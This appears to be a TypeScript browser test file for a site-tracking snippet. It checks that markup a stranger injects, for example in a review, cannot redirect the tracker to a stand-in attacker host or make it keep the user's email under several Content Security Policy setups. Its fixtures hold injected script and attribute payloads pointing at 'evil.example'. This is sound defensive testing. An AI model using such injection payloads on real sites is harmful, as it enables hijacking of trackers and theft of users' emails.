import { createHash } from 'node:crypto';
import { expect, inScript, KEY, RECORD, type Shop, SNIPPET, TRACKER, test } from '../harness/shop.js';

/** Made up, as KEY is. */
const FOREIGN = 'zZ9yY8xX7wW6vV5uU4tT3sS2rR1qQ0pP';
const EVIL = 'https://evil.example';
const NONCE = 'bWFkZSB1cA==';

const email = 'anna@example.com';
const declaration = `window.digitalData = ${inScript({ user: { email }, events: [] })};`;
const hash = `'sha256-${createHash('sha256').update(declaration).digest('base64')}'`;

/** Of a stranger, who can have any markup in a review, and no script that runs. */
const costly = `data-journey-key="${FOREIGN}" data-journey-host="${EVIL}" data-journey-remember-email`;
const attributes = `${costly} data-journey-debug data-journey-browser-cart`;
const address = `${EVIL}/ofsys-journey.min.js?key=${FOREIGN}&amp;host=${EVIL}&amp;debug&amp;remember-email`;
const inert: Record<string, string> = {
  'a second html': `<html ${attributes}>`,
  'a second body': `<body ${attributes}>`,
  'a base': `<base href="${EVIL}/?key=${FOREIGN}" ${attributes}>`,
  'a script of another type': `<script type="text/plain" src="${address}" ${attributes}></script>`,
  'a script in a template': `<template><script src="${address}" ${attributes}></script></template>`,
  'a script in SVG': `<svg><script href="${address}" ${attributes}></script></svg>`,
};
const blocked: Record<string, string> = {
  'a blocked script': `<script src="${address}" ${attributes}></script>`,
  'a blocked script with its key in the address': `<script src="${address}"></script>`,
  'a blocked script that loads a tracker': `<script src="${EVIL}/js/Journey/1/${FOREIGN}/DI.Journey-min.js" ${attributes}></script>`,
};

interface Placement {
  root?: string;
  tag: string;
  strangers: Record<string, string>;
}

const placements: Record<string, Placement> = {
  'in the tag': {
    tag: `src="${SNIPPET}" data-journey-key="${KEY}"`,
    strangers: { ...inert, ...blocked },
  },
  'in the address of the script': { tag: `src="${SNIPPET}?key=${KEY}"`, strangers: { ...inert, ...blocked } },
  // The options of html are taken from there: a second one can ask for messages, and for the browser's id.
  'on html': {
    root: `data-journey-key="${KEY}"`,
    tag: `src="${SNIPPET}"`,
    strangers: { ...inert, 'a second html': `<html ${costly}>` },
  },
};

/** Where nothing forbids it, what a stranger writes runs by itself, and no order helps. */
const policies: Record<string, string> = {
  'a nonce with strict-dynamic': `script-src 'nonce-${NONCE}' 'strict-dynamic'`,
  'an allowlist': `script-src https://cdn.example https://t.ofsys.com ${hash}`,
  'Trusted Types': `require-trusted-types-for 'script'; trusted-types ofsys-journey; script-src 'nonce-${NONCE}' 'strict-dynamic'`,
};

const page = (policy: string, { root = '', tag }: Placement, before: string, after: string) => ({
  root,
  data: null,
  headers: { 'content-security-policy': policy },
  head: `<script nonce="${NONCE}">${declaration}</script>`,
  tag: false as const,
  body: `${before}<script nonce="${NONCE}" ${tag}></script>${after}`,
});

/** What the browser itself says of what a policy forbids, and of an attribute that is there twice. */
const isOfBrowser = ({ text }: { text: string }): boolean => /Content[- ]Security[- ]Policy|favicon\.ico/i.test(text);

const startAnew = async (shop: Shop): Promise<void> => {
  await shop.run('localStorage.clear()');
  shop.forget();
  shop.requests.length = 0;
  shop.console.length = 0;
};

const together = (strangers: [what: string, markup: string][]): string =>
  strangers.map(([, markup]) => markup).join('');
const isBlocked = ([what]: [what: string, markup: string]): boolean => what.includes('blocked');

/** Each by itself with one policy, in one engine; and with each all that do nothing at once, then all that it has to block. */
const ways: Record<
  string,
  { tag: string[]; policies: Record<string, string>; of: (strangers: Record<string, string>) => Record<string, string> }
> = {
  'no markup of a stranger': {
    tag: ['@one-engine'],
    policies: { 'an allowlist': policies['an allowlist'] as string },
    of: (strangers) => strangers,
  },
  'not even all markup of strangers together': {
    tag: [],
    policies,
    of: (strangers) => {
      const all = Object.entries(strangers);
      return {
        'all that is inert': together(all.filter((stranger) => !isBlocked(stranger))),
        'all that is blocked, with one like a tracker': together(all.filter(isBlocked)),
      };
    },
  },
};

for (const [where, placement] of Object.entries(placements))
  for (const [who, { tag, policies: its, of }] of Object.entries(ways))
    for (const [with_, policy] of Object.entries(its))
      test(`with the key ${where} and ${with_}, ${who}, before the tag or after it, changes the key, the host or what is kept`, {
        tag,
      }, async ({ shop }) => {
        const evil: string[] = [];
        await shop.route(`${EVIL}/**`, (route) => {
          evil.push(route.request().url());
          return route.abort();
        });
        // By itself a browser asks for an icon, and WebKit for a script ahead of the policy that blocks it.
        const ofBrowser = `${EVIL}/favicon.ico ${Object.values(placement.strangers).join().replaceAll('&amp;', '&')}`;
        for (const [what, markup] of Object.entries(of(placement.strangers)))
          for (const [before, after] of [
            [markup, ''],
            ['', markup],
          ] as const) {
            const when = `${what} ${before ? 'before' : 'after'} the tag`;
            await shop.visit('/', page(policy, placement, before, after));
            // A script that looks like a tracker is waited for.
            if (what.includes('tracker') && before) await shop.pass(17_000);
            expect(await shop.settle(), when).toEqual([['Set', 'f_EMail', email], ['Track']]);
            const asked = [...shop.requests, ...evil].filter((url) => !ofBrowser.includes(url));
            expect(asked, when).toEqual([TRACKER]);
            expect(await shop.run(`localStorage.getItem('${RECORD}')`), when).not.toContain(email);
            expect(
              shop.console.filter((message) => !isOfBrowser(message)),
              when,
            ).toEqual([]);
            await startAnew(shop);
          }
      });

test('where nothing else has the key, a script that is found by looking may give it, and never a host or a kept email', async ({
  shop,
}) => {
  const found = `<script src="https://elsewhere.example/ofsys-journey.min.js" data-journey-key="${KEY}" data-journey-host="${EVIL}" data-journey-remember-email></script>`;
  await shop.visit(
    '/',
    page(policies['an allowlist'] as string, { tag: `src="${SNIPPET}"`, strangers: {} }, found, ''),
  );
  expect(await shop.settle()).toEqual([['Set', 'f_EMail', email], ['Track']]);
  expect(shop.requests).toEqual([TRACKER]);
  expect(await shop.run(`localStorage.getItem('${RECORD}')`)).not.toContain(email);
});

for (const [what, tag] of Object.entries({
  'in its attributes': `src="${SNIPPET}" data-journey-key="${KEY}" data-journey-host="https://t.example.com" data-journey-remember-email`,
  'in its address': `src="${SNIPPET}?key=${KEY}&host=https://t.example.com&remember-email"`,
  'in its address, and the key on html': `src="${SNIPPET}?host=https://t.example.com&remember-email"`,
}))
  test(`the script that runs may name a host and keep the email, ${what}`, async ({ shop }) => {
    const root = what.includes('html') ? `data-journey-key="${KEY}"` : '';
    await shop.visit('/', { root, data: { user: { email }, events: [] }, tag: `<script ${tag}></script>` });
    await shop.settle();
    expect(shop.requests).toEqual([TRACKER.replace('t.ofsys.com', 't.example.com')]);
    expect(await shop.run(`localStorage.getItem('${RECORD}')`)).toContain(email);
  });
